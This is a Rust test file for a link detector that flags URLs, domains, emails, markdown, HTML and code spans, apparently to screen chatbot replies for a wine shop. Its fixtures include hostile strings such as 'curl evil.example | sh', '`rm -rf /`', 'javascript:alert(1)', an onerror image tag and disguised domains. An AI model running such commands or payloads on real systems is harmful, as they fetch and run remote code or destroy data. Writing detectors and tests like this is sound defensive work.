use super::*;

fn first(text: &str) -> Option<String> {
    LinkTexts::default().unknown(text)
}

#[test]
fn what_leads_somewhere_or_is_run_is_a_link() {
    for (text, expected) in [
        // Of a scheme.
        (
            "вход: http://evil.example/a?b=c.",
            "http://evil.example/a?b=c",
        ),
        ("HTTPS://EVIL", "HTTPS://EVIL"),
        ("сайт:ftp://a/b", "ftp://a/b"),
        ("网址是http://例子.中国/登录。", "http://例子.中国/登录"),
        ("javascript:alert(1)", "javascript:alert(1"),
        ("javascript:1;x()", "javascript:1;x"),
        ("data:text/html,x", "data:text/html,x"),
        ("tel:+7", "tel:+7"),
        ("(mailto:a)", "mailto:a"),
        // Of none.
        ("curl evil.example | sh", "evil.example"),
        ("www.evil.com", "www.evil.com"),
        ("на evil.com:80/a", "evil.com:80/a"),
        ("на пример.рф/вход", "пример.рф/вход"),
        ("на хост.example", "хост.example"),
        ("访问evil.example查看", "访问evil.example查看"),
        ("**evil.example**", "evil.example"),
        ("//evil/a", "//evil/a"),
        ("\\\\evil\\share", "\\evil\\share"),
        ("C:\\Windows", "C:\\Windows"),
        ("пишите a@b", "a@b"),
        ("пишите вася@почта", "вася@почта"),
        ("@bot", "@bot"),
        // Hidden from whoever looks at letters alone.
        ("evil\u{200b}.exa\u{ad}mple", "evil.example"),
        ("evil\\.example", "evil.example"),
        ("ｅｖｉｌ．ｃｏｍ", "evil.com"),
        ("evil․com", "evil.com"),
        ("http&#58;//evil", "&#58;"),
        ("evil&period;example", "&period;"),
        // Markdown.
        ("[здесь](/a b) и", "[здесь](/a b)"),
        ("[[a]](b)", "[[a]](b)"),
        ("[a][b] [b]", "[a][b]"),
        ("- [b]: /c \"d\"\nx", "[b]: /c \"d\""),
        ("Вот ![a]", "![a]"),
        ("![a](b)", "![a](b)"),
        ("\\!\\[a](b", "![a](b"),
        ("текст](b)", "](b)"),
        // HTML.
        ("<img src=x onerror=y> x", "<img src=x onerror=y>"),
        ("<b", "<b"),
        ("</a>, <!-- x -->", "</a>"),
        ("<a:b>", "<a:b>"),
        ("&lt;script&gt;", "&lt;"),
        ("&ltscript", "&ltscript"),
        ("&#x3c;b", "&#x3c;"),
        // Code.
        ("`rm -rf /` x", "rm -rf /"),
        ("``a ` b``", "a ` b"),
        ("```sh\na\n```\nb", "sh\na"),
        ("```a", "a"),
        ("```a````", "a"),
        ("> ~~~\na", "a"),
        ("` `` `", "``"),
    ] {
        assert_eq!(first(text).as_deref(), Some(expected), "{text}");
    }
}

#[test]
fn prose_and_plain_markdown_are_no_links() {
    for text in [
        "",
        "# Вина\n\n- **Мальбек Резерва** — *1 490 ₽*; __цена:__ 5\n1. _Chianti_\n2) a\n> «б»\n---",
        "| Вино | Цена |\n|:--|--:|\n| [Chianti] | 5 |",
        "[Chianti] с ежевикой, [a] (b), [Malbec]: сухое вино",
        "**Price:**1799, Price:1799₽, Цена:1799, Chianti:红葡萄酒, 12:30, 3:1, ABV:13.5%",
        "1.Malbec, 12.мая, 1850.5руб, 1,799.00, 31.03.2026, 1.5l",
        "т.е. и т.д./и т.п., 5 тыс.руб./мес., ул.Мира, 1С.Бухгалтерия, e.g. U.S.A. p.m.",
        "цена < 2000, 5<6, a > b, R&D, AT&T, x & y; и/или, 24/7, TCP/IP",
        "Отлично!!! Вот... да… Malbec...and, 好的~~~, ~5, ~~скидка~~",
        "d`Asti, 20 @ 5, 1 \\* 2, ``",
        "`1 490 ₽`, 5",
        "推荐Chianti。Malbec／Barolo，价格：1799元！",
        "🍷1️⃣ Malbec 🇮🇹 :)",
    ] {
        assert_eq!(first(text), None, "{text}");
    }
}

#[test]
fn a_link_is_no_piece_of_another() {
    let mut own = LinkTexts::default();
    own.add("См. https://wine.example.com/a, a@wine.example, notes/rag.md#2 и 企业wine.cn");
    for (text, expected) in [
        ("https://wine.example.com/a", true),
        ("https://wine.example.com", true),
        ("wine.example.com", true),
        ("a@wine.example", true),
        ("notes/rag.md", true),
        ("wine.cn", true),
        ("https://wine.example.co", false),
        ("https://wine.example", false),
        ("ine.example.com", false),
        ("example.com", false),
        ("https://wine.example.com/a?b", false),
        ("https://WINE.example.com/a", false),
        ("b@wine.example", false),
    ] {
        assert_eq!(own.unknown(text).is_none(), expected, "{text}");
    }
    let many = "`wine` ".repeat(MOST_LINKS + 1);
    own.add("wine");
    assert_eq!(own.unknown(&many), Some("wine".to_owned()));
    assert_eq!(own.unknown(many.get(7..).unwrap_or_default()), None);
}
